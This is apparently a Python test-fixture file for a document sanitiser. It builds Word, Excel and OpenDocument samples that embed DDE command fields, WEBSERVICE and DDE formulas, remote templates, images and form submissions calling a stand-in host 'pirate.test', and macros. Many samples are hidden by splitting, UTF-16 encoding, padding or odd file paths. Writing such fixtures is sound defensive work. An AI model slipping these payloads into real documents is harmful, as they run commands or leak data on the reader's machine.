"""Texts and spreadsheets that fetch, run or carry something, under every name their readers would find it."""

from tests.fichiers.fabrication import RELATIONS, W, externe, odf, ooxml, relations

Actif = tuple[str, bytes]  # format, content
DDE = f"<w:p {W}><w:r><w:instrText>DDEAUTO cmd</w:instrText></w:r></w:p>"
DDE_SIMPLE = f'<w:p {W}><w:fldSimple w:instr="DDE cmd"/></w:p>'
# Word writes the instruction of a field in « instrText », and takes any text that stands there.
DDE_EN_TEXTE = (
    f'<w:p {W}><w:fldChar w:fldCharType="begin"/><w:t>DDE</w:t><w:t>AUTO cmd</w:t>'
    '<w:fldChar w:fldCharType="end"/></w:p>'
)
DDE_COLLE = f'<w:p {W}><w:instrText>PAGE</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>DDE cmd</w:instrText></w:p>'
LIAISON = '<externalLink><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
CONNEXIONS = (
    '<connections><connection refreshOnLoad="1"><webPr url="https://pirate.test"/></connection></connections>'
)

_DEBUT, _FIN = '<w:fldChar w:fldCharType="begin"/>', '<w:fldChar w:fldCharType="end"/>'
QUOTE = 'QUOTE "ms-word:a"'


def _champ(instruction: str) -> str:
    return f"{_DEBUT}<w:instrText>{instruction}</w:instrText>{_FIN}"


LIENS_HONNETES = "".join(
    _champ(f"HYPERLINK {suite}")
    for suite in (
        r'\l "ms-word:a"',
        r'"https://a.test" \o "Attention: lire"',
        '"mailto:a@b.test"',
        r"Annexe\\1.pdf",
    )
)


def _relation(nature: str, cible: str = "a") -> str:
    return relations(f'Id="r9" Type="{RELATIONS}/{nature}" Target="{cible}"')


def _formule(formule: str, balise: str = "f") -> str:
    return f"<worksheet><{balise}>{formule}</{balise}></worksheet>"


_DOCX: dict[str, dict[str, bytes | str]] = {
    **{
        f"champ dans {nom}": {nom: DDE}
        for nom in (
            "doc/document.xml",
            "word/sub/document.xml",
            "word/a.XML",
            "word/a",
            "word/a.png",
            "a.rels",
        )
    },
    "champ simple": {"word/header1.xml": DDE_SIMPLE},
    "champ en texte": {"word/document.xml": DDE_EN_TEXTE},
    "champ collé au précédent": {"word/document.xml": DDE_COLLE},
    "champ coupé": {"word/document.xml": DDE.replace("DDE", "D<!-- -->DE")},
    "champ en utf-16": {"word/a": DDE.encode("utf-16")},
    "champ en utf-16 sans marque": {"word/a": DDE.encode("utf-16-be")},
    "champ après des blancs": {"word/a": " " * 5_000 + DDE},
    "champ d’un script": {"word/document.xml": DDE.replace("DDEAUTO cmd", "HYPERLINK vnd.sun.star.script:x")},
    **{
        f"champ de lien {cas}": {"word/document.xml": f"<w:p {W}>{corps}</w:p>"}
        for cas, corps in {
            "vers un programme": _champ('HYPERLINK "ms-word:ofe|u|https://pirate.test/a.docx"'),
            "vers un partage": _champ('HYPERLINK "file://pirate.test/a"'),
            "sans guillemets": _champ("HYPERLINK ms-excel:a"),
            "après une infobulle": _champ('HYPERLINK \\o "Lire" "ms-word:a"'),
            "coupé": _champ('HYPER</w:instrText><w:instrText>LINK "ms-</w:instrText><w:instrText>word:a"'),
            "simple": '<w:fldSimple w:instr="HYPERLINK &quot;ms-word:a&quot;"/>',
            "jamais fini": _champ('HYPERLINK "ms-word:a"').removesuffix(_FIN),
            "composé": f"{_DEBUT}<w:instrText>HYPERLINK </w:instrText>{_champ(QUOTE)}{_FIN}",
        }.items()
    },
    "relation en capitales": {"word/_rels/document.xml.RELS": relations(externe("oleObject"))},
    "relation ailleurs": {"word/a.xml": relations(externe("image"))},
    "relation en utf-16": {"word/_rels/a.xml.rels": relations(externe("image")).encode("utf-16")},
    "relation cachée par une autre": {
        "word/_rels/a.xml.rels": relations(
            f'{externe("image")} xmlns:x="x" x:TargetMode="Internal" x:Target="a"'
        )
    },
    "image cachée par une autre": {
        "word/document.xml": '<v:imagedata xmlns:v="v" xmlns:x="x" src="https://pirate.test/a.png" x:src="a"/>'
    },
    "modèle en utf-16": {
        "word/_rels/settings.xml.rels": relations(externe("attachedTemplate")).encode("utf-16"),
        "word/settings.xml": "<a/>",
    },
    "lien vers un script": {
        "word/_rels/a.xml.rels": relations(externe("hyperlink", " vnd.sun.star.script:x")),
    },
    "morceau html": {
        "word/_rels/document.xml.rels": _relation("aFChunk", "afchunk.xhtm"),
        "word/afchunk.xhtm": "<html/>",
    },
    "morceau": {"word/document.xml": '<w:altChunk xmlns:w="w"/>'},
    "activex": {"word/_rels/document.xml.rels": _relation("control")},
    "image vml distante": {"word/document.xml": '<v:imagedata xmlns:v="v" src="https://pirate.test/a.png"/>'},
    "publipostage": {"word/a.xml": '<w:mailMerge xmlns:w="w"/>'},
    "classeur caché": {"word/a.png": ooxml("xlsx", {"xl/a.xml": LIAISON})},
}
_XLSX: dict[str, dict[str, bytes | str]] = {
    **{
        f"liaison dans {nom}": {nom: LIAISON}
        for nom in ("xl/liens/e1.xml", "xl/ExternalLinks/e1.xml", "xl/a", "xl/a.bin")
    },
    "liaison par relation": {"xl/_rels/workbook.xml.rels": _relation("externalLink")},
    "connexions": {"xl/connections.xml": CONNEXIONS},
    "requête": {"xl/a.xml": "<queryTable/>"},
    "fonction web": {"xl/a.xml": _formule('_xlfn.WEBSERVICE("https://pirate.test")')},
    "fonction web coupée": {"xl/a.xml": _formule("WEB<b/>SERVICE (A1)")},
    "fonction web en condition": {"xl/a.xml": _formule("WEBSERVICE(A1)", "formula1")},
    "fonction web nommée": {"xl/a.xml": _formule("WEBSERVICE(A1)", "definedName")},
    "fonction de lien": {"xl/a.xml": _formule('HYPERLINK("ms-excel:ofe|u|https://pirate.test/a.xlsx";"a")')},
    "fonction dde": {"xl/a.xml": _formule('DDE("cmd";"/c calc";"a")')},
    "dde": {"xl/a.xml": _formule("cmd|'/c calc'!A0")},
    "dde, apostrophe doublée": {"xl/a.xml": _formule("cmd|'/c ''calc'''!A0")},
    "classeur d’un partage": {"xl/a.xml": _formule(r"'\\pirate.test\[a.xlsx]F'!A1")},
}
_ODF = {
    "lien vers un script": ("odt", '<text:a xlink:href="vnd.sun.star.script:x"/>'),
    "lien vers un script, coupé": ("odt", '<text:a xlink:href=" vnd.sun.&#10;star.script:x"/>'),
    "image cachée par une autre": (
        "odt",
        '<draw:image xlink:href="https://pirate.test/a.png" text:href="a"/>',
    ),
    "liaison dde": ("odt", '<text:dde-connection-decl office:dde-application="cmd"/>'),
    "cellules d’ailleurs": ("ods", '<table:cell-range-source xlink:href="a.ods"/>'),
    "fonction dde": ("ods", '<table:table-cell table:formula=\'of:=DDE("cmd";"a";"b")\'/>'),
    "fonction web": ("ods", '<table:table-cell table:formula="of:=webservice([.A1])"/>'),
    "fonction web nommée": ("ods", '<table:named-expression table:expression="WEBSERVICE([.A1])"/>'),
    "cellule d’un site": (
        "ods",
        "<table:table-cell table:formula=\"of:=['https://pirate.test/a.ods'#$F.A1]\"/>",
    ),
    "cellule nommée d’un fichier": (
        "ods",
        "<table:named-expression table:expression=\"'file:///C:/a.ods'#$F.A1\"/>",
    ),
    "instance de formulaire": ("odt", '<xforms:instance xmlns:xforms="x" src="https://pirate.test/a.xml"/>'),
    "image d’un bouton": ("odt", '<form:image xmlns:form="f" form:image-data="\\\\pirate.test\\a.png"/>'),
    "envoi d’un formulaire": (
        "odt",
        '<xforms:submission xmlns:xforms="x" action="https://pirate.test" method="post"/>',
    ),
    "fonction de lien": ("ods", "<table:table-cell table:formula='of:=HYPERLINK(\"ms-word:a\")'/>"),
    "macro": ("odt", '<text:execute-macro text:name="x"/>'),
}
# What their reader fetches or runs: it must be refused, and the judge of served copies must see it.
ACTIFS: dict[str, Actif] = {
    **{f"docx {cas}": ("docx", ooxml("docx", ajouts)) for cas, ajouts in _DOCX.items()},
    **{f"xlsx {cas}": ("xlsx", ooxml("xlsx", ajouts)) for cas, ajouts in _XLSX.items()},
    **{f"{genre} {cas}": (genre, odf(genre, corps=corps)) for cas, (genre, corps) in _ODF.items()},
    "odt script ailleurs": ("odt", odf("odt", {"Object 1/a": '<a href="vnd.sun.star.script:x"/>'})),
}
